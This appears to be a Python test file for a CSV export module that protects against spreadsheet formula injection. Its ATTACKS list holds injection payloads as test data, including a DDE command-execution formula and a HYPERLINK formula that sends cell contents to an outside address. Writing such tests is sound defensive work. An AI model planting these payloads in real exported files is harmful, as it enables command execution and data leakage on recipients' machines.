"""CSV that leaves the house."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from segmentation.csv_text import line, number_cell, phone_cell, text_cell

ATTACKS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1)',
    "-2+3+cmd|' /C calc'!D2",
    "+49 30 123456; =1+1",
]


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_text_begins_like_a_formula(attack: str) -> None:
    """A company name must not become a program on the recipient's desk (ASVS 1.2.10, XPT-5)."""
    [[cell]] = read_back(line([text_cell(attack)]))

    assert cell[0] == "'"
    assert cell[1:] == attack.replace("\x00", "")


@pytest.mark.parametrize("attack", [a for a in ATTACKS if a != "+49301234567"])
def test_a_phone_column_is_no_way_around(attack: str) -> None:
    [[cell]] = read_back(line([phone_cell(attack)]))

    assert cell[0] == "'"


@pytest.mark.parametrize("number", ["+49301234567", "+12", "+441632960001"])
def test_an_international_number_stays_whole_in_its_column(number: str) -> None:
    """The cure must not break what it cures (T32): +49 stays +49."""
    assert read_back(line([phone_cell(number)])) == [[number]]


def test_the_same_number_in_a_text_column_is_text() -> None:
    assert read_back(line([text_cell("+49301234567")])) == [["'+49301234567"]]


@pytest.mark.parametrize("text", ["1e5", "=1", "+1", "1,5", "--1", "1 ", "", "NaN", "١"])
def test_only_our_own_numbers_are_numbers(text: str) -> None:
    with pytest.raises(ValueError, match="not a number"):
        number_cell(text)


def test_a_negative_number_of_ours_stays_a_number() -> None:
    assert line([number_cell("-12.50"), number_cell(None)]) == "-12.50,\r\n"


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00")), min_size=1, max_size=5))
def test_every_text_comes_back_as_it_was_but_for_the_apostrophe(cells: list[str]) -> None:
    """RFC 4180: commas, quotes and line breaks inside a cell survive."""
    [row] = read_back(line(text_cell(cell) for cell in cells))

    assert [got in (cell, "'" + cell) for got, cell in zip(row, cells, strict=True)] == [True] * len(cells)
    assert all(
        not got.lstrip(" \u00a0\u200b\ufeff")[:1] or got.lstrip(" \u00a0\u200b\ufeff")[0] not in "=+-@\t\r\n"
        for got in row
    )
